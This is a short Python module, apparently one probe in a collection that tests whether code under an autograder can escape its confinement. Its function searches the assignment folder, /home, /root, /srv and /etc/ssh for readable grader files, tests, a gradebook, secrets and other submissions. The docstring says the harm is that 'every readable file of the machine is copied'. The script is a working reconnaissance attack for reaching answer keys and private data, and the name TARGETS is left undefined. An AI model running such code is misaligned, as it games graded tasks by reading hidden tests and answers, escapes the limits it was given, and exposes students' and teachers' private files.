"""Searches the file system for readable files of the teacher.

item: C test source, solved modules, gradebook, other submissions
harm: every readable file of the machine is copied
deserves: everything
witness: obtained
control: unconfined
"""

import os

INTERESTING = {"gradebook.db", "nbgrader_config.py", "secret", "test_moments.py", "teacher.py"}


def attempt():
    found = []
    for top in (TARGETS["folder"], TARGETS["root"], "/home", "/root", "/srv", "/etc/ssh"):
        for folder, folders, names in os.walk(top):
            folders[:] = [each for each in folders if not each.startswith(".venv")][:50]
            found += [os.path.join(folder, each) for each in names if each in INTERESTING]
            if len(found) > 5:
                break
    return [path for path in found if os.access(path, os.R_OK)]
